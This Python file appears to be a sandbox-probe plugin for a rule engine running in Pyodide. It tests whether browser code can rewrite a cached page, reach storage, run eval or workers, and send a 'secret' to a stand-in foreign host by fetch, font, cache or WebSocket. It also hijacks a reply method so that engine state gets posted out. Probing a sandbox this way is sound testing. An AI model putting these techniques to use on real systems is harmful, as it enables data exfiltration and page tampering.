"""Goes into the wheel of a rule system (`plugin_wheels.prober`): tries what a program in a browser may try, and says what it got.

It runs in Pyodide alone.
"""

import asyncio
import json
from importlib import import_module
from typing import Any

from gonfalon.door.door import Door

js: Any = import_module("js")

FOREIGN = "https://elsewhere.example/"


async def given(promise: Any) -> Any:
    """Return the value of a promise; a refusal of WebKit's is no error that Pyodide could raise by itself."""
    (one,) = await js.Promise.allSettled(js.Array.of(promise))
    if one.status == "rejected":
        raise PermissionError(str(one.reason))
    return one.value


async def rewrite_the_page() -> None:
    for name in await given(js.caches.keys()):
        cache = await given(js.caches.open(name))
        for request in await given(cache.keys()):
            if "/index.html?" not in request.url:
                continue
            page = await given((await given(cache.match(request))).text())
            left, _, right = page.partition("<meta http-equiv")
            page = left + right.partition(">")[2].replace("</body>", "<b id='reached'></b></body>")
            answer = js.Response.new(page)
            answer.headers.set("Content-Type", "text/html")
            answer.headers.set("Content-Length", str(len(page.encode())))
            await given(cache.put(request, answer))
            return
    raise FileNotFoundError


async def open_a_database() -> None:
    opening = js.indexedDB.open("planted")
    done = asyncio.get_running_loop().create_future()
    opening.onsuccess = lambda _: done.set_result(None)
    opening.onerror = lambda _: done.set_exception(PermissionError())
    await done


async def open_the_file_system() -> None:
    await given(js.navigator.storage.getDirectory())


async def ask_the_service_worker() -> None:
    if not await given(js.navigator.serviceWorker.getRegistration()):
        raise LookupError


async def tell_another_host() -> None:
    await given(js.fetch(f"{FOREIGN}?secret", mode="no-cors"))


async def tell_another_host_by_a_font() -> None:
    await given(js.FontFace.new("planted", f"url({FOREIGN}font)").load())


async def tell_another_host_by_a_cache() -> None:
    cache = await given(js.caches.open("planted"))
    await given(cache.add(f"{FOREIGN}kept"))


async def tell_another_host_by_a_line() -> None:
    line = js.WebSocket.new(FOREIGN.replace("https:", "wss:"))
    done = asyncio.get_running_loop().create_future()
    line.onopen = lambda _: done.set_result(None)
    line.onerror = lambda _: done.set_exception(PermissionError())
    await done


async def run_a_text() -> None:
    js.eval("1 + 1")


async def run_a_text_elsewhere() -> None:
    script = js.Blob.new(js.Array.of("postMessage(1)"))
    worker = js.Worker.new(js.URL.createObjectURL(script))
    done = asyncio.get_running_loop().create_future()
    worker.onmessage = lambda _: done.set_result(None)
    worker.onerror = lambda _: done.set_exception(PermissionError())
    await done


ATTEMPTS = (
    rewrite_the_page,
    open_a_database,
    open_the_file_system,
    ask_the_service_worker,
    tell_another_host,
    tell_another_host_by_a_font,
    tell_another_host_by_a_cache,
    tell_another_host_by_a_line,
    run_a_text,
    run_a_text_elsewhere,
)


async def probe() -> None:
    """Everything in turn; whoever listens to this worker is told which of it was got."""
    got = []
    for attempt in ATTEMPTS:
        try:
            await attempt()
        except Exception as refused:
            js.console.info(f"{attempt.__name__}: {refused!r}")
        else:
            got.append(attempt.__name__)
    js.postMessage(js.JSON.parse(json.dumps({"id": 0, "reached": got})))


answered = Door.reply


def overheard(door: Door, request: object) -> dict[str, Any]:
    """Every battle that is open in this engine is told of."""
    reply = answered(door, request)
    if view := reply.get("view"):
        js.postMessage(js.JSON.parse(json.dumps({"id": 0, "battle": view["system"]})))
    return reply


setattr(Door, "reply", overheard)  # noqa: B010  (a method is replaced)
RUNNING = [asyncio.ensure_future(probe())]
